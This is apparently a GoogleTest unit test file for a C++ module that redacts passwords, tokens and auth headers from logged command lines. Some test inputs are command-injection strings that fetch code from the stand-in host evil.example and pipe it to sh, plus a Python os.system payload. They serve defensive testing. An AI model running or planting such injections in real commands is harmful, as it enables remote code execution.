// Words of command lines that are secret by where they stand.
#include "redact/argv.h"

#include "redact/redact_test.h"

namespace paddock::redact {
namespace {

using Words = std::vector<std::string>;

Words shown(const Words& words) { return redacted_argv(*Rules::common(), words); }
std::string script(const std::string& text) {
  return shown({"/bin/bash", "-l", "-c", text}).back();
}

TEST(RedactedArgv, WhatCouldBeRunStaysInTheRecord) {
  EXPECT_EQ(shown({"sh", "-c", "API_KEY=\"x1$(curl${IFS}evil.example)\" true"}),
            (Words{"sh", "-c", "API_KEY=[redacted:argument]$(curl${IFS}evil.example) true"}));
  EXPECT_EQ(shown({"sh", "-c", "API_KEY=x1`curl${IFS}evil.example`"}),
            (Words{"sh", "-c", "API_KEY=[redacted:argument]`curl${IFS}evil.example`"}));
  EXPECT_EQ(shown({"ssh", "host", "API_KEY=x1;curl${IFS}evil.example"}),
            (Words{"ssh", "host", "API_KEY=[redacted:argument];curl${IFS}evil.example"}));
  EXPECT_EQ(shown({"tool", "--password", "x1|sh"}),
            (Words{"tool", "--password", "[redacted:argument]|sh"}));
}

TEST(RedactedArgv, WhatStandsBehindAFlagThatNamesASecret) {
  for (const char* flag :
       {"--password", "--db-password", "--passwd", "--token", "--secret", "--api-key", "--apikey",
        "--access-key", "--auth", "--oauth2-bearer", "--credential", "-password", "-passin",
        "--client_secret", "--accessToken"}) {
    EXPECT_EQ(shown({"prog", flag, "hunter2", "more"}),
              (Words{"prog", flag, "[redacted:argument]", "more"}))
        << flag;
    EXPECT_EQ(shown({"prog", cat(flag, "=hunter2")}),
              (Words{"prog", cat(flag, "=[redacted:argument]")}))
        << flag;
  }
}

TEST(RedactedArgv, Assignments) {
  EXPECT_EQ(shown({"env", "PGPASSWORD=hunter2", "MYSQL_PWD=x1", "API_KEY=k", "psql"}),
            (Words{"env", "PGPASSWORD=[redacted:argument]", "MYSQL_PWD=[redacted:argument]",
                   "API_KEY=[redacted:argument]", "psql"}));
  EXPECT_EQ(shown({"java", "-Dspring.datasource.password=hunter2"})[1],
            "-Dspring.datasource.password=[redacted:argument]");
  EXPECT_EQ(shown({"npm", "config", "set", "//registry.example/:_authToken=abc"})[3],
            "//registry.example/:_authToken=[redacted:argument]");
  EXPECT_EQ(shown({"docker", "run", "-e", "DB_PASSWORD=hunter2", "image"})[3],
            "DB_PASSWORD=[redacted:argument]");
}

TEST(RedactedArgv, HeadersKeepTheirNameAndScheme) {
  EXPECT_EQ(shown({"curl", "-H", "Authorization: Bearer abcdefghij0123456789"})[2],
            "Authorization: Bearer [redacted:argument]");
  EXPECT_EQ(shown({"curl", "--header=authorization: token short"})[1],
            "--header=authorization: token [redacted:argument]");
  EXPECT_EQ(shown({"curl", "-H", "X-Api-Key: short"})[2], "X-Api-Key: [redacted:argument]");
  EXPECT_EQ(shown({"curl", "-H", "Cookie: a=b; c=d"})[2], "Cookie: [redacted:argument]");
  EXPECT_EQ(shown({"http", "x.example", "Authorization:Bearer short"})[2],
            "Authorization:Bearer [redacted:argument]");
  EXPECT_EQ(shown({"curl", "-H", "Accept: text/html"})[2], "Accept: text/html");
}

TEST(RedactedArgv, CredentialsOfCurl) {
  for (const char* flag : {"-u", "--user", "-U", "--proxy-user"})
    EXPECT_EQ(shown({"/usr/bin/curl", flag, "bob:hunter2"})[2], "bob:[redacted:argument]") << flag;
  EXPECT_EQ(shown({"curl", "-ubob:hunter2"})[1], "-ubob:[redacted:argument]");
  EXPECT_EQ(shown({"chown", "-u", "bob:staff"})[2], "bob:staff");
}

TEST(RedactedArgv, WithinTheTextOfAShell) {
  EXPECT_EQ(script("set -e; mysql --password hunter2 -e 'select 1' && echo \"--token\""),
            "set -e; mysql --password [redacted:argument] -e 'select 1' && echo \"--token\"");
  EXPECT_EQ(
      script("export TOKEN=abc\ncurl -H 'Authorization: Bearer abc' x # don't\nTOKEN=abc make"),
      "export TOKEN=[redacted:argument]\ncurl -H \"Authorization: Bearer [redacted:argument]\" x # "
      "don't\nTOKEN=[redacted:argument] make");
  EXPECT_EQ(script("bash -c 'login --password hunter2'"),
            "bash -c \"login --password [redacted:argument]\"");
  EXPECT_EQ(script("login \\\n  --password \\\n  hunter2"),
            "login \\\n  --password \\\n  [redacted:argument]");
  EXPECT_EQ(redacted_script(*Rules::common(), "login --password 'a b'"),
            "login --password [redacted:argument]");
}

TEST(RedactedArgv, NothingElseChanges) {
  for (const Words& words : std::vector<Words>{{"git", "commit", "-m", "token"},
                                               {"git", "commit", "-m", "password: fix the prompt"},
                                               {"git", "commit", "-m", "token=x is wrong"},
                                               {"prog", "--token-file", "/run/token"},
                                               {"prog", "--no-password", "bob"},
                                               {"prog", "--password-stdin", "bob"},
                                               {"prog", "--password", "--user", "bob"},
                                               {"prog", "--password"},
                                               {"prog", "--password", ""},
                                               {"prog", "--password", "$PASSWORD"},
                                               {"prog", "--max-tokens", "500"},
                                               {"grep", "-r", "password", "."},
                                               {"ssh", "-o", "PasswordAuthentication=no"},
                                               {"ls", "-p", "x"},
                                               {"prog", "--pwd", "/srv"},
                                               {"prog", "--key", "a"},
                                               {"prog", "--keyboard", "us"},
                                               {"=", "=x", ""}})
    EXPECT_EQ(shown(words), words);
  for (const char* text : {"TOKEN=$(cat file); curl -H \"Authorization: Bearer $TOKEN\" x",
                           "echo 'it''s' \"a;b\" | grep -q token; (cd /; ls)", "echo \"unfinished",
                           "cat <<E\n--password\nE", "a\\"})
    EXPECT_EQ(script(text), text);
}

// A record that hides what was run would be worse than one that shows a password.
TEST(RedactedArgv, ProgramTextsDoNotVanish) {
  EXPECT_EQ(script("PASSWORD=x;wget${IFS}evil.example|sh"),
            "PASSWORD=[redacted:argument];wget${IFS}evil.example|sh");
  std::string code = "token=__import__('os').system('id')";
  EXPECT_EQ(shown({"python3", "-c", code})[2], code);
  EXPECT_EQ(shown({"node", "-e", "token=eval(1)"})[2], "token=eval(1)");
  std::string longer(5000, 'a');
  EXPECT_EQ(shown({"sh", "-c", "eval $2", "--password", longer})[4], longer);
}

TEST(RedactedArgv, KnownValuesAndKindsKeepTheirNames) {
  std::shared_ptr<const Rules> rules = rules_with({.secrets = {{"KEY", "hunter22"}}});
  Counts counts;
  EXPECT_EQ(redacted_argv(
                *rules,
                Words{"prog", "--password", "hunter22", "--token=hunter22", "--token", "xhunter22"},
                &counts),
            (Words{"prog", "--password", "[redacted:KEY]", "--token=[redacted:KEY]", "--token",
                   "[redacted:argument]"}));
  EXPECT_EQ(counts["argument"], 1u);
  Value list = text_list({"prog", "--token", "x1"});
  EXPECT_EQ(to_json(redacted_argv(*rules, list)), R"(["prog","--token","[redacted:argument]"])");
}

TEST(RedactedArgv, AnyBytesAreTakenInLinearTime) {
  Random random(7);
  for (int round = 0; round < 300; ++round) {
    Words words{"sh", "-c"};
    for (size_t i = random.below(6); i-- > 0;)
      words.push_back(random.of("-pas wordtoken='\"\\;|$#\n:=", random.below(60)));
    EXPECT_EQ(shown(words).size(), words.size());
  }
  EXPECT_EQ(shown(Words(100'000, "curl")).size(), 100'000u);
}

}  // namespace
}  // namespace paddock::redact
